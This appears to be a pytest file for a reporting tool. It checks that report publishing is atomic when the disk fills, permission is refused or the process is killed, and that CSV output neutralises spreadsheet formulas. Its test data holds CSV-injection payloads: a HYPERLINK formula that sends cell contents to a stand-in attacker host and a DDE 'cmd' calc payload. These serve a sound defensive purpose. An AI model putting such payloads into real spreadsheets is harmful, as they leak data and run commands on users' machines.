"""Publishing is atomic and its CSVs are safe to open in Excel (issue 10, items 7 and 9).

Real reports from real marts (report_data) are published twice; the second publish fails
part-way through a full disk, a refused permission or a kill -9, and the first report,
the manifest and the index must be exactly as they were.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import fsspec
import pytest
from advocacy.report import build_report
from advocacy.report.publish import Publisher
from advocacy.safe_csv import BOM, safe_cell, safe_csv
from advocacy.settings import load_settings
from fsspec.implementations.local import LocalFileSystem
from report_data import create_marts

AS_OF = dt.date(2026, 4, 30)
PASSED = {"success": True, "run_id": "scheduled__2026-04-30"}
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class FaultyFS(LocalFileSystem):
    """The local disk, until the n-th file opened for writing: then a fault."""

    protocol = ("faulty",)
    fail_at: int | None = None
    fault: str = "full"  # full | permission | kill
    writes = 0

    def _open(self, path, mode="rb", **kwargs):
        if "w" not in mode:
            return super()._open(path, mode, **kwargs)
        FaultyFS.writes += 1
        if FaultyFS.writes != FaultyFS.fail_at:
            return super()._open(path, mode, **kwargs)
        if self.fault == "permission":
            raise PermissionError(errno.EACCES, "Permission denied", path)
        if self.fault == "kill":
            os.kill(os.getpid(), signal.SIGKILL)
        f = super()._open(path, mode, **kwargs)
        real_write = f.write

        def write(data):  # half of it fits, then the disk is full
            real_write(data[: len(data) // 2])
            f.flush()
            raise OSError(errno.ENOSPC, "No space left on device", path)

        f.write = write
        return f


fsspec.register_implementation("faulty", FaultyFS, clobber=True)


@pytest.fixture
def settings(tmp_path):
    path = tmp_path / "programme.yml"
    path.write_text(
        "programme:\n  name: Acme advocacy\n  start_date: 2025-11-01\n"
        "inputs:\n  roster: roster.csv\n  publish: published\n"
        "platforms:\n  x: {}\n"
    )
    return load_settings(path)


@pytest.fixture
def marts(warehouse):
    create_marts(warehouse)
    return warehouse


def snapshot(root: Path) -> dict[str, bytes]:
    """Every visible file under the publish root, with its bytes."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.name.startswith(".")
    }


def change_the_numbers(target) -> None:
    with target.connect() as conn:
        conn.execute("update marts.kpi_adoption_monthly set invited = invited + 1")
        conn.commit()


# -- safe CSVs ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcalc", "'\tcalc"),
        ("\rcalc", "'\rcalc"),
        ("-3", "-3"),  # numbers are numbers: the columns still sum
        ("+0.25", "+0.25"),
        ("-1.5e-3", "-1.5e-3"),
        ("Seán", "Seán"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_leading_cells_are_neutralised(cell, written):
    assert safe_cell(cell) == written


def test_safe_csv_has_a_bom_and_keeps_every_value():
    data = 'name,campaign,delta\r\nSeán,"=cmd|\' /c calc\'!A1",-0.04\r\n"multi\nline",@x,5\r\n'
    out = safe_csv(data.encode())
    assert out.startswith(BOM)
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["name", "campaign", "delta"],
        ["Seán", "'=cmd|' /c calc'!A1", "-0.04"],
        ["multi\nline", "'@x", "5"],
    ]
    assert safe_csv(out) == out  # idempotent: a BOM is not doubled, a quote not added twice


def test_published_csvs_neutralise_names_and_campaigns_and_open_as_utf8(marts, settings, tmp_path):
    with marts.connect() as conn:
        conn.execute("update marts.kpi_referrals_by_campaign_monthly set campaign = %s", (INJECTION,))
        conn.execute(
            "update marts.kpi_adoption_monthly set department = 'Seán''s team' where department <> 'ALL'"
        )
        conn.commit()
    folder = Path(build_report(marts, settings, as_of=AS_OF, validation=PASSED)).parent
    for path in folder.glob("*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(BOM), path.name
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), (path.name, cell)
    campaigns = (folder / "kpi_referrals_by_campaign_monthly.csv").read_bytes().decode("utf-8-sig")
    assert "'" + INJECTION.replace('"', '""') in campaigns
    assert "Seán's team" in (folder / "kpi_adoption_monthly.csv").read_bytes().decode("utf-8")


# -- atomic publish ----------------------------------------------------------------


def test_every_file_is_renamed_into_place(tmp_path):
    p = Publisher(str(tmp_path / "pub"))
    p.write("a/x.html", "one")
    p.write("a/x.html", "two")
    assert (tmp_path / "pub" / "a" / "x.html").read_text() == "two"
    assert [f.name for f in (tmp_path / "pub" / "a").iterdir()] == ["x.html"]  # no temporary left
    staged = Publisher(str(tmp_path / "pub"), staged=True)
    staged.write("a/x.html", "three")
    assert (tmp_path / "pub" / "a" / "x.html").read_text() == "two"  # not before it is recorded
    staged.discard()
    assert [f.name for f in (tmp_path / "pub" / "a").iterdir()] == ["x.html"]


@pytest.mark.parametrize(("fault", "fail_at"), [("full", 3), ("full", 1), ("permission", 5)])
def test_a_failed_publish_leaves_the_previous_report_and_index(marts, settings, tmp_path, fault, fail_at):
    root = tmp_path / "published"
    url = f"faulty://{root}"
    FaultyFS.fail_at, FaultyFS.fault, FaultyFS.writes = None, fault, 0
    build_report(marts, settings, as_of=AS_OF, validation=PASSED, publish_root=url)
    before = snapshot(root)
    assert "index.html" in before and "2026-04-30/kpi_adoption_monthly.csv" in before

    change_the_numbers(marts)
    FaultyFS.fail_at, FaultyFS.writes = fail_at, 0
    with pytest.raises(OSError):
        build_report(marts, settings, as_of=AS_OF, validation=PASSED, publish_root=url)
    assert snapshot(root) == before
    assert not [p for p in root.rglob("*") if p.is_file() and p.stat().st_size == 0]

    FaultyFS.fail_at = None  # the next publish succeeds and clears the leftovers
    build_report(marts, settings, as_of=AS_OF, validation=PASSED, publish_root=url)
    after = snapshot(root)
    assert after != before and set(after) == set(before)
    assert not [p.name for p in root.rglob(".*")]


def test_a_new_report_is_not_indexed_when_its_publish_fails(marts, settings, tmp_path):
    root = tmp_path / "published"
    url = f"faulty://{root}"
    FaultyFS.fail_at, FaultyFS.fault, FaultyFS.writes = None, "full", 0
    build_report(marts, settings, as_of=AS_OF, validation=PASSED, publish_root=url)
    before = snapshot(root)
    FaultyFS.fail_at, FaultyFS.writes = 2, 0
    with pytest.raises(OSError):
        build_report(marts, settings, as_of=dt.date(2026, 3, 31), validation=PASSED, publish_root=url)
    assert snapshot(root) == before  # no 2026-03-31 files and no index entry for it


def test_a_killed_publish_leaves_the_previous_report_and_index(marts, settings, tmp_path):
    """kill -9 of the publishing process between two files of the report."""
    root = tmp_path / "published"
    build_report(marts, settings, as_of=AS_OF, validation=PASSED, publish_root=str(root))
    before = snapshot(root)
    change_the_numbers(marts)
    script = textwrap.dedent(
        f"""
        import datetime as dt, sys
        sys.path.insert(0, {str(Path(__file__).parent)!r})
        from advocacy.settings import load_settings
        from advocacy.warehouse import parse_url
        from advocacy.report import build_report
        import test_atomic_publish as t
        t.FaultyFS.fail_at, t.FaultyFS.fault = 4, "kill"
        build_report(parse_url({marts.url!r}), load_settings({settings.source_file!r}),
                     as_of=dt.date(2026, 4, 30), validation=t.PASSED, publish_root="faulty://{root}")
        """
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert proc.returncode == -signal.SIGKILL, proc.stderr[-2000:]
    assert snapshot(root) == before
    assert (root / "index.html").stat().st_size > 0
